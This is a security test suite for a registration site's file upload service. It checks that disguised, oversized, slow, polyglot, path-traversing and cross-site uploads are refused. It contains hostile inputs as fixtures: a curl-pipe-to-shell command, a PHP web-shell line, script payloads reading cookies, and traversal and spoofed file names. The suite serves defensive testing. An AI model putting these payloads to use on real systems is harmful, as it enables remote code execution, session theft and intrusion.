import { randomBytes } from 'node:crypto'
import { readdir } from 'node:fs/promises'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { getPanelFile, uploadFile } from '#contract/files.ts'
import { UPLOAD_LIMITS } from '#server/base/upload-limits.ts'
import { outputOf, problemOf } from '#test/support/answers.ts'
import { Client } from '#test/support/client.ts'
import { askingFor, emptyPng, newDraft, pdf, picture, upload, uploadInto } from '#test/support/files.ts'
import { kielceDefinition } from '#test/support/kielce.ts'
import { asOwner } from '#test/support/owner.ts'
import { uploadRaw } from '#test/support/raw-upload.ts'
import { register, startTestSite, type TestSite } from '#test/support/site.ts'

const MB = 1024 * 1024
/** Files of one form, and uploads of one network, so few that tests reach them. */
const FEW = { ofDraft: 2, ofNetwork: 4 }
let site: TestSite
let network = 0

beforeAll(async () => {
  const uploadLimits = { ...UPLOAD_LIMITS, ...FEW, idle: 1_000, total: 2_500 }
  const definition = askingFor(await kielceDefinition())
  site = await startTestSite({ definition, settings: { uploadLimits, runs: { web: true, worker: false } } })
})
afterAll(() => site[Symbol.asyncDispose]())

/** From a network of its own, so that the limit of one is no other test's. */
const fresh = () => ({ 'x-forwarded-for': `10.9.${network >> 8}.${network++ & 0xff}` })
const send = (name: string, content: Buffer, draft = newDraft(), headers = fresh()) =>
  upload(site.visitor, { slug: site.slug, draft, name, content }, headers)
const stored = () => readdir(`${site.server.config.dataDir}/files`, { recursive: true }).catch(() => [])
const countRows = async () => (await asOwner(site.server.databaseUrl, 'SELECT FROM file')).length
const pathOf = (draft = newDraft()) =>
  `/v1/site/events/${site.slug}/drafts/${draft}/files?name=a.pdf&version=1&question=paper`

async function expectRefused(code: Parameters<typeof problemOf>[0], name: string, content: Buffer) {
  const before = [await countRows(), (await stored()).length]
  const problem = problemOf(code, await send(name, content))
  expect([await countRows(), (await stored()).length]).toEqual(before)
  return problem
}

describe('the kind of a file is decided by its content', () => {
  test.each([
    ['zdjęcie.jpg', '#!/bin/sh\ncurl http://example.org | sh\n'],
    ['zdjęcie.jpg', '<?php system($_GET["c"]); ?>'],
    ['zdjęcie.png', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'],
    ['rysunek.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['zgoda.pdf', 'PK\x03\x04 a zip file'],
    ['zgoda.pdf', '<html>%PDF-1.7 %%EOF</html>'],
    ['strona.png', '<!doctype html><script>fetch("/v1/session")</script>'],
    ['ruch.gif', 'GIF89a'],
  ])('%s containing %j is refused, and the sentence names what is accepted', async (name, content) => {
    const problem = await expectRefused('file_kind', name, Buffer.from(content))
    expect(problem).toMatchObject({
      status: 415,
      params: { kinds: 'PDF, JPG, PNG, WebP' },
      problems: [
        { field: 'file', message: 'Tego rodzaju pliku nie przyjmujemy. Wybierz PDF, JPG, PNG lub WebP.' },
      ],
    })
  })

  test('a kind that is known and not asked for is refused', async () => {
    // The first entry of a text document, as its standard wants it.
    const odt = Buffer.concat([
      Buffer.from('PK\x03\x04'),
      Buffer.alloc(26),
      Buffer.from('mimetypeapplication/vnd.oasis'),
    ])
    await expectRefused('file_kind', 'a.odt', odt)
  })

  test('a picture that is a page, an archive and a program as well is a picture alone afterwards', async () => {
    const script = Buffer.from('<script>alert(1)</script>')
    const zip = Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200), Buffer.from('PK\x05\x06')])
    const commented = await sharp(await picture())
      .withExif({ IFD0: { ImageDescription: '<?php evil(); ?>' } })
      .toBuffer()
    const { id: registrationId, token } = await register(site)
    const content = Buffer.concat([commented, script, zip])
    const of = { slug: site.slug, name: 'obraz.html', content, registrationId }
    const id = await uploadInto(site.server.databaseUrl, site.visitor, of)
    const answer = await site.visitor.call(`/v1/site/registrations/${token}/files/${id}`)
    expect(answer.headers['content-type']).toBe('image/jpeg')
    expect(answer.headers['content-disposition']).toContain('filename="obraz.html.jpg"')
    for (const part of ['<script', 'PK\x03\x04', '<?php'])
      expect(answer.bytes.includes(part), part).toBe(false)
    expect(await sharp(answer.bytes).metadata()).toMatchObject({ width: 40, height: 30 })
  })

  test.each([
    ['a picture that is cut off', async () => (await picture(400, 300)).subarray(0, 600)],
    [
      'a picture with a damaged head',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(500)]),
    ],
    ['a PDF that is cut off', async () => pdf('x').subarray(0, 12)],
    ['nothing', async () => Buffer.alloc(0)],
  ])('%s is damaged', async (_, content) => {
    await expectRefused('file_damaged', 'plik', await content())
  })

  test.each([
    ['of 50,000 × 50,000 pixels', () => Promise.resolve(emptyPng(50_000, 50_000))],
    ['that is really large and empty', () => picture(9_000, 8_000, 'png')],
  ])('a picture %s is refused before it is decoded', async (_, content) => {
    const bytes = await content()
    expect(bytes.length).toBeLessThan(MB)
    const before = process.memoryUsage().rss
    const problem = await expectRefused('picture_too_large', 'bomba.png', bytes)
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * MB)
    expect(problem.params).toEqual({ megapixels: 64 })
  })

  test.each(['../../../etc/cron.d/x.pdf', '..\\..\\x.pdf', '/etc/passwd', 'a\u202efdp.exe'])(
    'the name %j leads nowhere',
    async (name) => {
      const reference = outputOf(uploadFile, await send(name, pdf(name)))
      expect(reference.name).toMatch(/^[\w.]+\.pdf$/)
      expect((await stored()).filter((each) => !/^[0-9a-f]{2}(\/[0-9a-f]{64})?$/.test(each))).toEqual([])
    },
  )
})

describe('the size of an upload is limited while it arrives', () => {
  test('fifty megabytes are refused with a sentence', async () => {
    const problem = problemOf(
      'file_too_large',
      await send('film.pdf', Buffer.concat([pdf(), Buffer.alloc(50 * MB)])),
    )
    expect(problem.problems).toMatchObject([{ message: 'Ten plik jest za duży. Wybierz plik do 5\u00a0MB.' }])
  })

  test('ten announced gigabytes are refused before any is sent', async () => {
    const started = performance.now()
    const answer = await uploadRaw(site.visitor, {
      ...{
        host: site.host,
        path: pathOf(),
        headers: { ...fresh(), 'content-length': String(10 * 1024 * MB) },
      },
      write: () => new Promise(() => undefined),
    })
    expect([answer.status, answer.sent, JSON.parse(answer.text).code]).toEqual([413, 0, 'file_too_large'])
    expect(performance.now() - started).toBeLessThan(900)
  })

  test('a file that is larger than allowed is refused where the limit is reached, also without a length', async () => {
    const chunk = Buffer.alloc(64 * 1024, 'x')
    const answer = await uploadRaw(site.visitor, {
      ...{ host: site.host, path: pathOf(), headers: fresh() },
      write: async (sendChunk) => {
        for (let sent = 0; sent < 7 * MB; sent += chunk.length) await sendChunk(chunk)
      },
    })
    expect([answer.status, JSON.parse(answer.text).problems[0].message]).toEqual([
      413,
      'Ten plik jest za duży. Wybierz plik do 5\u00a0MB.',
    ])
  })

  test('an endless upload ends with its connection', async () => {
    const chunk = Buffer.alloc(256 * 1024, 'x')
    let sent = 0
    const endless = uploadRaw(site.visitor, {
      ...{ host: site.host, path: pathOf(), headers: fresh() },
      write: async (sendChunk) => {
        for (;;) {
          await sendChunk(chunk)
          sent += chunk.length
        }
      },
    })
    const outcome = await endless.then(
      ({ status }) => status,
      () => 'ended',
    )
    expect([413, 'ended']).toContain(outcome)
    expect(sent).toBeLessThan(64 * MB)
  })

  test.each([
    ['that stops sending', 600, 5_000],
    ['that sends a byte now and then', 200, 200],
  ])('one %s is refused after a while', async (_, first, pauseAfter) => {
    const started = performance.now()
    const answer = await uploadRaw(site.visitor, {
      ...{ host: site.host, path: pathOf(), headers: { ...fresh(), 'content-length': '5000' } },
      write: async (sendChunk) => {
        for (let index = 0; index < 100; index += 1) {
          await sendChunk(Buffer.from('%'))
          await new Promise((resolve) => setTimeout(resolve, index === 0 ? first : pauseAfter).unref())
        }
      },
    })
    expect([answer.status, JSON.parse(answer.text).code]).toEqual([408, 'upload_too_slow'])
    // The rest is waited for a little, so that the refusal can be read.
    expect(performance.now() - started).toBeLessThan(9_000)
  })

  test('an interrupted upload leaves nothing', async () => {
    const before = [await countRows(), (await stored()).length]
    const headers = { ...fresh(), 'content-length': '5000' }
    const broken = uploadRaw(site.visitor, {
      ...{ host: site.host, path: pathOf(), headers },
      write: async (sendChunk) => {
        await sendChunk(pdf())
        throw new Error('gone')
      },
    })
    await broken.catch(() => undefined)
    expect([await countRows(), (await stored()).length]).toEqual(before)
  })
})

describe('the number of uploads is limited', () => {
  test('by the form, also when they come at once', async () => {
    const draft = newDraft()
    const answers = await Promise.all([1, 2, 3, 4].map((n) => send('a.pdf', pdf(`of four ${n}`), draft)))
    expect(answers.map(({ status }) => status).toSorted()).toEqual([201, 201, 409, 409])
    const refused = answers.find(({ status }) => status === 409)
    expect(refused && problemOf('too_many_files', refused)).toMatchObject({
      params: { max: 2 },
      problems: [{ message: 'Można wgrać najwyżej tyle plików: 2. Usuń któryś i\u00a0spróbuj jeszcze raz.' }],
    })
  })

  test('by the network, also of those that were refused', async () => {
    const from = fresh()
    for (let n = 0; n < FEW.ofNetwork; n += 1)
      problemOf('file_kind', await send('a.pdf', Buffer.from('x'), newDraft(), from))
    const refused = await send('a.pdf', pdf(), newDraft(), from)
    problemOf('too_many_requests', refused)
    expect(refused.headers['retry-after']).toBe('3600')
    expect((await send('a.pdf', pdf())).status).toBe(201)
  })
})

describe('without a right', () => {
  test('another site uploads nothing for this event, and a page without the token of this site neither', async () => {
    const draft = newDraft()
    const elsewhere = new Client(site.server.port, 'nikt.zapisano.localhost')
    await elsewhere.open()
    problemOf('not_found', await upload(elsewhere, { slug: site.slug, draft }))
    const foreign = new Client(site.server.port, site.host)
    problemOf('csrf', await upload(foreign, { slug: site.slug, draft }))
    const origin = { origin: 'https://zly.example.org', ...fresh() }
    problemOf('csrf', await upload(site.visitor, { slug: site.slug, draft }, origin))
  })

  test('staff who are signed out, and a link in a guessed form, read nothing', async () => {
    const { id: registrationId } = await register(site)
    const fileId = await uploadInto(site.server.databaseUrl, site.visitor, {
      slug: site.slug,
      registrationId,
    })
    const params = { accountId: site.account, eventId: site.event, registrationId, fileId }
    const visitor = new Client(site.server.port, 'panel.zapisano.localhost')
    await visitor.open()
    problemOf('not_signed_in', await visitor.ask(getPanelFile, { params }))
    problemOf('not_found', await site.visitor.ask(getPanelFile, { params }))
    const folder = await stored()
    const [key = ''] = folder.filter((each) => each.length > 60)
    for (const path of [
      `/files/${key}`,
      `/assets/../.data/files/${key}`,
      `/assets/%2e%2e/files/${key}`,
      '/files/',
    ])
      expect((await site.visitor.call(path)).status, path).toBe(404)
  })
})
